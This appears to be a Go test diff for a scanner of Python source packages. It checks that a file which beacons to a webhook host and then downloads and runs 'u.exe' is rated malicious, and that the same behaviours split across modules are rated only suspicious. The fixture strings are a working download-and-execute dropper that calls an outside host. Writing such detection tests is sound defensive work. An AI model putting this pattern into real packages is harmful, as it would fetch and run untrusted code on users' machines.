@@ -205,3 +205,23 @@ func TestEscapedCode(t *testing.T) {
 		t.Errorf("control characters as escapes: %s %+v", r.Verdict, r.Findings)
 	}
 }
+
+func TestCombinedThreats(t *testing.T) {
+	// Each threat alone is demoted (runtime code); together, in one file,
+	// they are a payload.
+	grab := "import requests, subprocess, urllib.request\nHOOK = 'https://eo1x2.m.pipedream.net/c'\n" +
+		"def run():\n    requests.get(HOOK)\n    urllib.request.urlretrieve('https://example.invalid/u.exe', 'u.exe')\n    subprocess.Popen(['u.exe'])\n"
+	r := sdist(t, map[string]string{"p/tool.py": grab})
+	if r.Verdict != Malicious || !hasRule(r, "combined-threats", Critical) {
+		t.Errorf("two threats in one file: %s %+v", r.Verdict, r.Findings)
+	}
+	// The same two behaviours in unrelated modules of a large library stay
+	// as they are.
+	r = sdist(t, map[string]string{
+		"p/hooks.py": "import requests\nHOOK = 'https://eo1x2.m.pipedream.net/c'\ndef ping():\n    return requests.get(HOOK)\n",
+		"p/fetch.py": "import subprocess, urllib.request\ndef run():\n    urllib.request.urlretrieve('https://example.invalid/u.exe', 'u.exe')\n    subprocess.Popen(['u.exe'])\n",
+	})
+	if r.Verdict != Suspicious || hasRule(r, "combined-threats", Info) {
+		t.Errorf("threats in separate files: %s %+v", r.Verdict, r.Findings)
+	}
+}
